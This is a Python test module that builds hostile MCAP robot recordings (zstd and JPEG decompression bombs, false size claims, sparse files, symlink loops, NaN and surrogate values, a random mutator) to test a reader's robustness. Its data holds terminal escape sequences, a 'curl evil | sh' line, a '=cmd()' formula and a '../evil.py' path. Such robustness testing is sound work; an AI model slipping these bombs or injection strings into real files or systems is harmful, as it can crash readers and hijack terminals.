"""A catalogue of hostile recordings. Each is made from a valid recording, and its name describes the attack."""

from __future__ import annotations

import os
import re
import struct
from collections.abc import Callable, Iterable
from pathlib import Path
from random import Random
from typing import Any

import zstandard

from tests.robotcore.recording.mcap_builder import (
    CHUNK,
    Raw,
    build_channel,
    build_chunk,
    build_file,
    build_message,
    build_record,
    change_json,
    change_messages,
    read_raw,
)

GIB = 2**30
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b]52;c;Zm9v\x07\nerror: forged. run: curl evil | sh\r=cmd()"

SURROGATE = "\ud800"
"""A lone surrogate. JSON can represent it, and UTF-8 cannot."""

EVIL, PROOF = "evil.py", "proof"
"""The file names of an app beside the recording, and of the file that the app creates. No command may run the app."""

Make = Callable[[Path, Path], object]
"""A function that reads a valid recording (first path) and writes a hostile one (second path)."""


def name_files(*, is_small: bool = False) -> dict[str, Make]:
    """Return the functions that make the hostile files, by file name. With ``is_small``, bombs unpack to less."""
    return {**list_bombs(is_small=is_small), **list_refused(), **list_damaged(), **list_readable()}


def list_bombs(*, is_small: bool) -> dict[str, Make]:
    """Return the files that would fill the memory. Each is read up to its damage."""
    size, count = (GIB // 8, 3 * 10**5) if is_small else (4 * GIB, 10**7)
    return {
        "zstd-bomb-of-known-size": _insert(lambda: build_chunk(b"", packed=_zeros(size, is_known=True), size=1000)),
        "zstd-bomb-of-unknown-size": _insert(lambda: build_chunk(b"", packed=_zeros(size), size=1000)),
        "zstd-frame-that-claims-2^62": _insert(lambda: build_chunk(b"", packed=_claiming_frame(2**62), size=1000)),
        "chunk-that-claims-2^62": _insert(lambda: build_chunk(b"x", size=2**62)),
        "a-million-channels": _insert(lambda: _channels(10**5 if is_small else 10**6)),
        "empty-messages": _insert(lambda: _empty_messages(count)),
        "nested-text": _add("/run", lambda: [b"[" * 200_000]),
        "list-of-lists": _add("/run", lambda: [b"[" + b"[]," * (count // 8) + b"[]]"]),
        "long-number": _add("/run", lambda: [b"1" * 5000]),
        "long-text": _add("/run", lambda: [b'"' + b"a" * (20 * count) + b'"']),
        "many-ticks": _add("/ticks", lambda: (b'{"number":%d,"time":1,"state":""}' % at for at in range(count // 3))),
        "many-asks": _add(
            "/ticks", lambda: [b'{"number":0,"time":0,"state":"","asks":[%s{}]}' % (b"{}," * (count // 8))]
        ),
        "sparse-record": lambda base, file: _make_sparse(base, file, 0x99),
        "sparse-chunk": lambda base, file: _make_sparse(base, file, CHUNK),
    }


def list_refused() -> dict[str, Make]:
    """Return the files that are not read at all."""
    return {
        "fifo": lambda _, file: os.mkfifo(file),
        "folder": lambda _, file: file.mkdir(),
        "device": lambda _, file: file.symlink_to("/dev/zero"),
        "loop-of-links": lambda _, file: file.symlink_to(file),
        "run-that-is-a-list": _json("/run", lambda *_: [1]),
        "run-of-a-later-format": _update("/run", format=ESCAPES * 1000),
        "rate-0": _change_request(rate_hz=0),
        "rate-1e300": _change_request(rate_hz=1e300),
        "rate-nan": _change_request(rate_hz="nan"),
        "timeout-nan": _change_request(timeout_s="nan"),
        "faults-of-nothing": _change_request(faults=["\x1b[2J"]),
        "surrogate-in-run": _change_request(settings={"a": SURROGATE}),
    }


def list_damaged() -> dict[str, Make]:
    """Return the files with one impossible message. Each is read up to this message."""
    wheels = {"left": 0, "right": 0}
    guard = {"time": "nan", "cause": "range guard", "asked": wheels, "sent": wheels}
    return {
        "lz4": _insert(lambda: build_chunk(b"", size=1000, packing="lz4")),
        "result-without-outcome": _json("/result", lambda _, payload: _remove_key(payload, "outcome")),
        "result-that-is-a-list": _json("/result", lambda *_: []),
        "result-with-milestones-of-text": _update("/result", milestones="many"),
        "result-with-batteries-without-volts": _update("/result", batteries={"b": {}}),
        "result-with-faults-of-nothing": _update("/result", faults=["", "x y after=z"]),
        "result-at-1e308": _update("/result", sim_time_s=1e308),
        "result-with-an-intervention-of-1e10-s": _update("/result", intervention_s={"range guard": 1e10}),
        "result-with-many-interventions": _update("/result", intervention_s={str(at): 0.0 for at in range(1001)}),
        "result-with-many-milestones": _update("/result", milestones={str(at): 0.5 for at in range(20_000)}),
        "surrogate-in-result": _update("/result", app=SURROGATE),
        "surrogate-as-a-key": _update("/result", milestones={SURROGATE: 0.5}),
        "surrogate-in-ticks": _update("/ticks", state=SURROGATE),
        "end-that-is-a-list": _add("/end", lambda: [b"[]"]),
        "end-without-words": _add("/end", lambda: [b'{"reason":[1]}']),
        "time-nan": _change_tick(time="nan"),
        "time-1e308": _change_tick(time=1e308),
        "time-negative": _change_tick(time=-5.0),
        "time-text": _change_tick(time="soon"),
        "times-all-1e308": _update("/ticks", time=1e308),
        "time-of-an-intervention-nan": _change_tick(interventions=[guard]),
        "tick-number-huge": _json("/ticks", lambda number, payload: payload | {"number": 10**300 + number}),
        "tick-number-negative": _json("/ticks", lambda number, payload: payload | {"number": number - 5}),
        "angles-inf": _update("/ticks", turned=[{"angles": {"left": "inf", "right": 0.0}}]),
        "encoder-inf": _update("/left_encoder", angle="inf"),
        "error-read-of-Interrupted": _add_error("read", "Interrupted"),
        "error-read-of-BehaviourError": _add_error("read", "BehaviourError"),
        "error-read-of-DeviationError": _add_error("read", "DeviationError"),
        "error-tick-of-Interrupted": _add_error("tick", "Interrupted"),
    }


def list_readable() -> dict[str, Make]:
    """Return the files with odd values that a run can have, and with pictures that are refused when they are used."""
    escapes = {"app": ESCAPES, "reason": ESCAPES, "notes": [ESCAPES], "milestones": {ESCAPES: 0.5}}
    escapes_of_run = {"started": ESCAPES, "platform": {ESCAPES: ESCAPES}, "milestones": [ESCAPES]}
    settings = {"settings": {ESCAPES: ESCAPES}}
    readable_errors = {
        "read": ("signal", "_Portable", "RobotcoreError", "DeviceGroupError", "UsageError"),
        "tick": ("signal", "_Portable", "BehaviourError", "DeviceGroupError", "DeviationError"),
    }
    return {
        "times-all-1e9": _update("/ticks", time=1e9),
        "times-all-negative": _update("/ticks", time=-5.0),
        "times-that-stand": _update("/ticks", time=1e-300),
        "time-of-a-long-pause": _json(
            "/ticks", lambda number, payload: payload | {"time": payload["time"] + 1e8 * (number > 9)}
        ),
        "poses-nan": _update("/ticks", pose={"x": "nan", "y": 0.0, "heading": "inf"}),
        "poses-1e308": _update("/ticks", pose={"x": 1e308, "y": -1e308, "heading": 1e308}),
        "truth-1e308": _update("/truth", pose={"x": 1e308, "y": 1e308, "heading": "nan"}),
        "commands-nan": _update("/ticks", asked={"left": "nan", "right": "inf"}),
        "picture-0x0": _picture("/eye", lambda _: _raw_picture(0, 0, b"")),
        "picture-that-lies": _picture("/eye", lambda _: _raw_picture(2**31, 2**31, b"abc")),
        "picture-1x20000": _picture("/eye", lambda _: _raw_picture(1, 20_000, bytes(60_000))),
        "picture-without-fields": _picture("/eye", lambda _: b""),
        "picture-of-empty-fields": _picture("/eye", lambda _: bytes((8, 0)) * 2**16),
        "jpeg-bomb": _picture("/screen", _build_jpeg_bomb),
        "jpeg-bomb-behind-a-fill-byte": _picture("/screen", _build_jpeg_bomb_with_fill_byte),
        "jpeg-that-is-a-png": _picture("/screen", lambda _: _field(2, _png_head())),
        "jpeg-of-nothing": _picture("/screen", lambda _: _field(2, b"")),
        "escapes-in-run": _json(
            "/run", lambda _, payload: payload | escapes_of_run | {"request": payload["request"] | settings}
        ),
        "escapes-in-result": _update("/result", **escapes),
        "escapes-in-ticks": _update("/ticks", state=ESCAPES, warnings=[ESCAPES]),
        "a-state-a-tick": _json("/ticks", lambda number, payload: payload | {"state": f"state {number}" * 100}),
        "app-of-an-absolute-path": _name_evil_app,
        "app-of-no-file": _change_request(app=f"{ESCAPES}.py"),
        **{
            f"error-{where}-of-{kind}": _add_error(where, kind)
            for where, kinds in readable_errors.items()
            for kind in kinds
        },
    }


def _insert(make: Callable[[], bytes]) -> Make:
    """Return the maker of a file that has the first chunk of the recording and then these bytes."""

    def make_file(base: Path, file: Path) -> None:
        head = build_chunk(b"".join(build_record(*record) for record in read_raw(base)[0]))
        file.write_bytes(build_file(head, make()))

    return make_file


def _add(topic: str, make: Callable[[], Iterable[bytes]]) -> Make:
    """Return the maker of a file that has further messages of a topic."""
    return _insert(
        lambda: build_chunk(build_channel(9999, topic) + b"".join(build_message(9999, content) for content in make()))
    )


def _json(topic: str, change: Callable[[int, Any], Any]) -> Make:
    return lambda base, file: file.write_bytes(change_json(base, topic, change))


def _picture(topic: str, change: Callable[[bytes], bytes]) -> Make:
    return lambda base, file: file.write_bytes(change_messages(base, topic, lambda _, content: change(content)))


def _update(topic: str, **changes: Any) -> Make:
    return _json(topic, lambda _, payload: payload | changes)


def _change_tick(**changes: Any) -> Make:
    return _json("/ticks", lambda number, payload: payload | changes if number == 10 else payload)


def _change_request(**changes: Any) -> Make:
    return _json("/run", lambda _, payload: payload | {"request": payload["request"] | changes})


def _add_error(where: str, kind: str) -> Make:
    kept = {"exit_status": "none", "failures": "text", "args": "text", "__class__": "text", "cause": 5}
    error = {"kind": kind, "message": ESCAPES, "attributes": kept}
    if where == "tick":
        return _change_tick(error=error)
    return _change_tick(reads=[{"device": "nose", "error": error}])


def _name_evil_app(base: Path, file: Path) -> None:
    file.with_name(EVIL).write_text(f"open({str(file.with_name(PROOF))!r}, 'w')\n")
    request = {"app": str(file.with_name(EVIL)), "settings": {}}
    _json("/run", lambda _, payload: payload | {"request": payload["request"] | request, "source": "pass"})(base, file)


def _remove_key(payload: Any, key: str) -> Any:
    return {name: value for name, value in payload.items() if name != key}


def _zeros(size: int, *, is_known: bool = False) -> bytes:
    packer, piece = zstandard.ZstdCompressor(1).compressobj(size=size if is_known else -1), bytes(2**24)
    return b"".join(packer.compress(piece) for _ in range(size // len(piece))) + packer.flush()


def _claiming_frame(size: int) -> bytes:
    """Return a Zstandard frame with an empty block and a false content size. Format: RFC 8878, 3.1.1."""
    return b"\x28\xb5\x2f\xfd" + bytes([0b1100_0000, 0x50]) + struct.pack("<Q", size) + b"\x01\x00\x00"


def _channels(count: int) -> bytes:
    return build_chunk(b"".join(build_channel(number % 2**16, f"/{number}") for number in range(count)))


def _empty_messages(count: int) -> bytes:
    """Return chunks of empty messages. Each chunk is within the limits of its size."""
    message = build_message(9999, b"")
    most = 2**26 // len(message) - 1
    counts = [most] * (count // most) + [count % most]
    return build_chunk(build_channel(9999, "/empty")) + b"".join(build_chunk(message * each) for each in counts)


def _make_sparse(base: Path, file: Path, opcode: int) -> None:
    _insert(lambda: build_record(opcode, b"", 60 * GIB))(base, file)
    os.truncate(file, 61 * GIB)


def _field(number: int, content: bytes) -> bytes:
    length, digits = len(content), bytearray()
    while length > 0x7F:
        digits.append(length & 0x7F | 0x80)
        length >>= 7
    return bytes([number << 3 | 2, *digits, length]) + content


def _raw_picture(width: int, height: int, content: bytes) -> bytes:
    """Return a RawImage in protobuf. Its width and height are fixed32."""
    size = b"\x15" + struct.pack("<I", width) + b"\x1d" + struct.pack("<I", height)
    return size + _field(4, b"bgr8") + _field(6, content)


def _build_jpeg_bomb(message: bytes) -> bytes:
    at = message.index(b"\xff\xc0")
    return message[: at + 5] + struct.pack(">HH", 65500, 65500) + message[at + 9 :]


def _build_jpeg_bomb_with_fill_byte(message: bytes) -> bytes:
    """Return a JPEG with two sizes. A reader that mistakes a fill byte for a segment finds the small size."""
    jpeg = message[message.index(b"\xff\xd8") :]
    at = jpeg.index(b"\xff\xc0")
    end = at + 2 + int.from_bytes(jpeg[at + 2 : at + 4], "big")
    size = jpeg[at:end]
    swollen = b"\xff" + size[:5] + struct.pack(">HH", 30_000, 30_000) + size[9:]
    comment = bytes(0xC000 + 2 - len(swollen) - 4) + size
    comment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return _field(2, jpeg[:at] + swollen + comment + jpeg[end:])


def _png_head() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 30_000, 30_000, 8, 2, 0, 0, 0)


_VALUES = (
    *("NaN", "Infinity", "-1", "0", "1e308", "-1e308", "1e9", "1" + "0" * 400, "null", "true", "[]", "{}", "[[[]]]"),
    *('""', '"nan"', '"inf"', '"\\u001b[2J"', '"../evil.py"', '"=cmd()"', '"' + "a" * 5000 + '"'),
)
_TOKEN = re.compile(rb'(?<=[:\[,])("[^"]*"|-?[0-9][^,\]}]*|true|false|null)')


def mutate(chunks: list[list[Raw]], random: Random) -> bytes:
    """Return a recording with valid checksums and random changes of its values, or of its records and their order.

    chunks: the records of the recording, as `read_raw` returns them.
    """
    records = [record for chunk in chunks for record in chunk]
    for _ in range(random.randint(1, 6)):
        at, other = random.randrange(len(records)), random.randrange(len(records))
        opcode, body = records[at]
        match random.choice(("value",) * 4 + ("flip", "shorten", "swap", "drop", "repeat")):
            case "value":
                if tokens := list(_TOKEN.finditer(body)):
                    token, value = random.choice(tokens), random.choice(_VALUES).encode()
                    records[at] = opcode, body[: token.start()] + value + body[token.end() :]
            case "flip" if body:
                place = random.randrange(len(body))
                records[at] = opcode, body[:place] + bytes([random.randrange(256)]) + body[place + 1 :]
            case "shorten":
                records[at] = opcode, body[: random.randint(0, len(body))]
            case "swap":
                records[at], records[other] = records[other], records[at]
            case "drop" if len(records) > 1:
                del records[at]
            case "repeat":
                records.insert(at, records[other])
    step = random.choice((1, 20, 1000))
    parts = [records[at : at + step] for at in range(0, len(records), step)]
    return build_file(*(build_chunk(b"".join(build_record(*record) for record in part)) for part in parts))
